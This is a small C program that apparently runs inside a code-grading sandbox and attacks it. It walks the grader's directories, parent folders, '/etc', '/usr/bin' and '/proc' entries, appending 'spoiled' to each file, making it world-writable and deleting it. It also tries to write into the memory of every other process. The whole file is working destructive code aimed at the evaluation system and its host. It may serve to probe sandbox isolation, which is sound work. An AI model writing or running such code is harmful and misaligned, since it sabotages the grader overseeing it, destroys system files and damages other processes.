/* Looks for the grader's files and for other processes' memory, and writes. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void spoil(const char *folder, const char *name)
{
    char path[4096];
    if (snprintf(path, sizeof path, "%s/%s", folder, name) >=
        (int)sizeof path)
        return;
    int fd = open(path, O_WRONLY | O_APPEND);
    if (fd >= 0) {
        (void)!write(fd, "spoiled", 7);
        printf("spoiled %s\n", path);
        close(fd);
    }
    chmod(path, 0777);
    unlink(path);
}

static void visit(const char *folder)
{
    DIR *all = opendir(folder);
    struct dirent *entry;
    while (all != NULL && (entry = readdir(all)) != NULL)
        if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0)
            spoil(folder, entry->d_name);
    if (all != NULL)
        closedir(all);
}

int main(void)
{
    char path[64];
    static const char *const folders[] = {
        "/program", "/site", "/site/public", "/common", "/submission", "/tmp",
        "..", "../..", "../../program", "../../site/public", "/usr/bin",
        "/etc", "/proc/1", "/proc/1/fd", "/proc/1/root", "/proc/sys/kernel"};
    for (size_t i = 0; i < sizeof folders / sizeof folders[0]; i++)
        visit(folders[i]);
    for (int pid = 1; pid < 32768; pid++)
        if (pid != getpid()) {
            snprintf(path, sizeof path, "/proc/%d/fd", pid);
            visit(path);
            snprintf(path, sizeof path, "/proc/%d", pid);
            spoil(path, "mem");
        }
    return 0;
}
